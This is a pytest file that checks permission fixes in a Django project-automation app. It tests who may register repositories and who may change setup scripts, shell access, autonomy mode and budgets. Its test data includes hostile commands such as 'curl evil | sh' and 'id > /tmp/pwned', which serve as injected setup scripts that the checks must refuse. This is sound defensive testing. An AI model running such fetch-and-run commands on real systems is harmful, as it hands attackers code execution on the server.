"""Security findings 2 and 3: who may register a repository and change what executes.

Finding 2: any logged-in user registered any repository on disk (another project's, a symlink to it,
a run's worktree) and then set a setup script that ran as the server's user.
Finding 3: an operator changed owner-level settings (shell, allowlist, setup script, repository,
autonomy mode, budgets).
The rules are data in autopilot.permissions.FIELD_ROLES; these tests go through every door.
"""

from __future__ import annotations

import io
import os
import subprocess

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.urls import reverse
from rest_framework.test import APIClient

from autopilot import services
from autopilot.errors import ApplicationError, PermissionDenied
from autopilot.models import Event, Project, ProjectMembership
from tests.factories import (
    ExecutionRunFactory,
    MembershipFactory,
    ProjectFactory,
    UserFactory,
    grant_register,
)
from tests.gitrepo import make_repo

pytestmark = pytest.mark.django_db


def client_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def roots(tmp_path, settings):
    """A repository root holding a fresh repository; AUTOPILOT_REPO_ROOTS points at it."""
    root = (tmp_path / "repos").resolve()
    root.mkdir()
    settings.AUTOPILOT_REPO_ROOTS = [root]
    return root


@pytest.fixture
def trusted(db):
    return grant_register(UserFactory(username="trusted"))


@pytest.fixture
def staff(db):
    return UserFactory(username="staffer", is_staff=True)


def create(user, repo, **extra):
    body = {"name": "New", "repo_path": str(repo), **extra}
    return client_for(user).post("/api/projects/", body, format="json")


# --- Finding 2: registering a repository ----------------------------------------------------------


def test_a_plain_user_cannot_register_a_repository(user, roots):
    # Given a repository under a configured root
    repo = make_repo(roots / "app")
    # When a logged-in user without the register permission registers it
    response = create(user, repo, setup_script="id > /tmp/pwned")
    # Then it is refused, naming what is needed, and nothing is written
    assert response.status_code == 403
    assert "right to register repositories" in response.json()["detail"]
    assert not Project.objects.filter(name="New").exists()


def test_a_trusted_user_registers_under_a_root_and_becomes_owner(trusted, roots):
    repo = make_repo(roots / "app")
    response = create(trusted, repo, setup_script="make deps")
    assert response.status_code == 201, response.json()
    project = Project.objects.get(name="New")
    assert ProjectMembership.objects.get(project=project).user == trusted
    assert Event.objects.get(kind="project.created").actor == trusted


def test_outside_every_root_is_refused_naming_the_roots(trusted, roots, tmp_path):
    repo = make_repo(tmp_path / "elsewhere")
    response = create(trusted, repo)
    assert response.status_code == 403
    detail = response.json()["detail"]
    assert "not under a repository root" in detail and str(roots) in detail


def test_without_roots_only_a_superuser_registers(trusted, staff, admin_user, tmp_path, settings):
    # Given no configured roots (the default)
    settings.AUTOPILOT_REPO_ROOTS = []
    repo = make_repo(tmp_path / "app")
    # Then the register permission and staff are not enough, a superuser is
    for user in (trusted, staff):
        response = create(user, repo)
        assert response.status_code == 403 and "AUTOPILOT_REPO_ROOTS" in response.json()["detail"]
    assert create(admin_user, repo).status_code == 201


def test_a_refused_location_is_refused_before_the_disk_is_looked_at(trusted, roots):
    # An untrusted location gives the same answer whether it exists or not (no probing of the disk).
    there = create(trusted, "/etc").json()["detail"]
    missing = create(trusted, "/no/such/dir").json()["detail"]
    assert "not under a repository root" in there and "not under a repository root" in missing


@pytest.mark.parametrize("how", ["same-path", "symlink", "subdirectory-of-it", "git-worktree-of-it"])
def test_another_projects_repository_is_refused(trusted, roots, how):
    # Given a project on a repository under the root
    repo = make_repo(roots / "taken")
    ProjectFactory(repo_path=str(repo))
    if how == "same-path":
        target = repo
    elif how == "symlink":
        target = roots / "alias"
        os.symlink(repo, target)
    elif how == "subdirectory-of-it":
        (repo / "pkg").mkdir()
        target = repo / "pkg"
    else:
        target = roots / "wt"
        subprocess.run(
            ["git", "-C", str(repo), "worktree", "add", "-q", "-b", "side", str(target)], check=True
        )
    # When another user registers it
    response = create(trusted, target)
    # Then it is refused
    assert response.status_code in (400, 403), response.json()
    assert Project.objects.count() == 1


def test_only_staff_may_share_a_repository(trusted, roots, staff):
    repo = make_repo(roots / "mono")
    ProjectFactory(repo_path=str(repo))
    refused = create(trusted, repo, allow_shared_repo=True)
    assert refused.status_code == 403 and "Only staff" in refused.json()["detail"]
    shared = create(staff, repo, allow_shared_repo=True, subdirectory="")
    assert shared.status_code == 201, shared.json()


def test_a_runs_worktree_and_the_data_directory_are_refused_even_for_superusers(
    admin_user, settings, tmp_path
):
    # Given a project whose run has a worktree under the worktree root (outside the data directory here)
    settings.AUTOPILOT_WORKTREE_ROOT = tmp_path / "worktrees"
    project = ProjectFactory()
    worktree = settings.AUTOPILOT_WORKTREE_ROOT / project.slug / "run-1"
    worktree.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        ["git", "-C", project.repo_path, "worktree", "add", "-q", "-b", "run-1", str(worktree)], check=True
    )
    ExecutionRunFactory(project=project, worktree_path=str(worktree))
    # And a repository inside the data directory
    inside = make_repo(settings.DATA_DIR / "trust-test-repo")
    try:
        for target, message in ((worktree, "worktree root"), (inside, "data directory")):
            response = create(admin_user, target, allow_shared_repo=True)
            assert response.status_code == 400 and message in response.json()["detail"], response.json()
    finally:
        subprocess.run(
            ["git", "-C", project.repo_path, "worktree", "remove", "--force", str(worktree)], check=True
        )
        subprocess.run(["rm", "-rf", str(inside)], check=True)


def test_moving_a_project_onto_another_projects_repository_is_refused(admin_user, project):
    other = ProjectFactory()
    MembershipFactory(project=project, user=admin_user, role="owner")
    response = client_for(admin_user).patch(
        f"/api/projects/{project.pk}/", {"repo_path": other.repo_path}, format="json"
    )
    assert response.status_code == 400 and "Another project already uses" in response.json()["detail"]
    project.refresh_from_db()
    assert project.repo_path != other.repo_path


# --- Finding 3: operators change owner-level settings ----------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "needs"),
    [
        ("allow_shell", True, "owner role and the right to register"),
        ("command_allowlist", ["sh"], "owner role and the right to register"),
        ("setup_script", "curl evil | sh", "owner role and the right to register"),
        ("test_command", "sh -c id", "owner role and the right to register"),
        ("repo_path", "/tmp", "owner role and the right to register"),
        ("autonomy_mode", "full_auto", "the owner role"),
        ("daily_budget_usd", "99999", "the owner role"),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 20 else None,
)
def test_an_operator_cannot_change_owner_settings(project, operator, field, value, needs):
    before = Project.objects.get(pk=project.pk)
    response = client_for(operator).patch(f"/api/projects/{project.pk}/", {field: value}, format="json")
    assert response.status_code == 403
    detail = response.json()["detail"]
    assert f"Changing {field}" in detail and needs in detail and "you are operator" in detail
    assert getattr(Project.objects.get(pk=project.pk), field) == getattr(before, field)
    assert not Event.objects.filter(kind__in=["project.updated", "project.autonomy"]).exists()


def test_an_operator_pauses_and_resumes(project, operator):
    api = client_for(operator)
    assert api.patch(f"/api/projects/{project.pk}/", {"paused": True}, format="json").status_code == 200
    assert Project.objects.get(pk=project.pk).paused is True


def test_an_owner_without_the_register_right_cannot_set_a_setup_script(project, owner):
    response = client_for(owner).patch(f"/api/projects/{project.pk}/", {"setup_script": "id"}, format="json")
    assert response.status_code == 403
    assert "you are an owner without that right" in response.json()["detail"]
    trusted_owner = grant_register(owner)
    response = client_for(trusted_owner).patch(
        f"/api/projects/{project.pk}/", {"setup_script": "id"}, format="json"
    )
    assert response.status_code == 200 and Project.objects.get(pk=project.pk).setup_script == "id"


def test_one_refused_field_refuses_the_whole_patch(project, operator):
    body = {"paused": True, "allow_shell": True}
    response = client_for(operator).patch(f"/api/projects/{project.pk}/", body, format="json")
    assert response.status_code == 403
    assert Project.objects.get(pk=project.pk).paused is False


def test_services_refuse_too_so_every_door_is_covered(project, operator):
    with pytest.raises(PermissionDenied, match="Changing allow_shell"):
        services.project_update(project=project, actor=operator, allow_shell=True)
    with pytest.raises(PermissionDenied, match="Changing autonomy_mode"):
        services.project_update_autonomy(project=project, actor=operator, autonomy_mode="full_auto")
    with pytest.raises(PermissionDenied, match="Changing members"):
        services.membership_set(project=project, user=operator, role="owner", actor=operator)
    with pytest.raises(PermissionDenied, match="owner role"):
        services.project_delete(project=project, actor=operator)
    with pytest.raises(ApplicationError):
        services.project_create(name="x", repo_path=project.repo_path, actor=operator)


def test_manager_page_controls_follow_the_matrix(client, project, operator):
    client.force_login(operator)
    url = reverse("manager-autonomy", args=[project.pk])
    refused = client.post(url, {"autonomy_mode": "full_auto"})
    assert refused.status_code == 403 and b"needs the owner role" in refused.content
    assert client.post(url, {"paused": "1"}).status_code == 302
    project.refresh_from_db()
    assert (project.autonomy_mode, project.paused) == ("off", True)
    # The header offers the operator pause/resume, not the owner's mode select
    page = client.get(reverse("project-detail", args=[project.pk])).content.decode()
    assert 'data-testid="resume"' in page and 'name="autonomy_mode"' not in page


# --- The CLI: `--user X` gets X's rights, a local shell is trusted ---------------------------------


def cli(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_cli_user_gets_their_rights(project, operator):
    with pytest.raises(CommandError, match="Changing autonomy_mode .* needs the owner role") as refused:
        cli("project", "autonomy", project.slug, "--mode", "full_auto", "--user", operator.username)
    assert refused.value.returncode == 2
    cli("project", "autonomy", project.slug, "--pause", "--user", operator.username)
    project.refresh_from_db()
    assert (project.autonomy_mode, project.paused) == ("off", True)


def test_cli_create_as_a_plain_user_is_refused_and_as_the_local_shell_allowed(user, tmp_path):
    repo = make_repo(tmp_path / "cli-repo")
    with pytest.raises(CommandError, match="right to register repositories"):
        cli("project", "create", "Cli", "--repo", str(repo), "--setup-script", "id", "--user", user.username)
    assert not Project.objects.filter(name="Cli").exists()
    # No superuser exists: the local shell acts as the server's own account
    cli("project", "create", "Cli", "--repo", str(repo), "--owner", user.username)
    assert ProjectMembership.objects.get(project__name="Cli").user == user


# --- The admin ------------------------------------------------------------------------------------


def test_superuser_deletes_a_project_with_events_in_the_admin(admin_client, project):
    # Given a project with events (the event admin refuses deletes on its own)
    services.project_update_autonomy(project=project, actor=None, paused=True)
    assert Event.objects.filter(project=project).exists()
    url = reverse("admin:autopilot_project_delete", args=[project.pk])
    # When a superuser confirms the deletion
    page = admin_client.get(url)
    assert page.status_code == 200 and b"would require deleting" not in page.content
    response = admin_client.post(url, {"post": "yes"})
    # Then the project and its events are gone, and the deletion is logged
    assert response.status_code == 302
    assert not Project.objects.filter(pk=project.pk).exists()
    assert Event.objects.filter(kind="project.deleted").exists()
    # While events stay undeletable on their own
    event = Event.objects.first()
    assert (
        admin_client.post(
            reverse("admin:autopilot_event_delete", args=[event.pk]), {"post": "yes"}
        ).status_code
        == 403
    )


def _staff_with_admin_rights(username: str):
    from django.contrib.auth.models import Permission

    user = UserFactory(username=username, is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="autopilot"))
    return get_user_model().objects.get(pk=user.pk)


def test_admin_fields_an_operator_may_not_change_are_read_only(client, project):
    # Given a staff user with every admin permission who is an operator of the project
    operator = _staff_with_admin_rights("staff-operator")
    MembershipFactory(project=project, user=operator, role="operator")
    client.force_login(operator)
    # When they open the project's change form
    form = client.get(reverse("admin:autopilot_project_change", args=[project.pk]))
    # Then only the operator's fields are inputs
    assert form.status_code == 200
    fields = form.context["adminform"].form.fields
    assert "paused" in fields and "active_phase" in fields
    for refused in ("setup_script", "allow_shell", "repo_path", "autonomy_mode", "daily_budget_usd", "name"):
        assert refused not in fields
    # And they may not delete it
    assert (
        client.post(reverse("admin:autopilot_project_delete", args=[project.pk]), {"post": "yes"}).status_code
        == 403
    )
    assert Project.objects.filter(pk=project.pk).exists()


def test_admin_lists_only_visible_projects_and_add_needs_the_register_right(client, project):
    ProjectFactory(name="Hidden")
    member = _staff_with_admin_rights("staff-member")
    MembershipFactory(project=project, user=member, role="owner")
    client.force_login(member)
    listing = client.get(reverse("admin:autopilot_project_changelist")).content.decode()
    assert project.name in listing and "Hidden" not in listing
    # staff is site-trusted: may add; a non-staff user never reaches the admin at all
    assert client.get(reverse("admin:autopilot_project_add")).status_code == 200
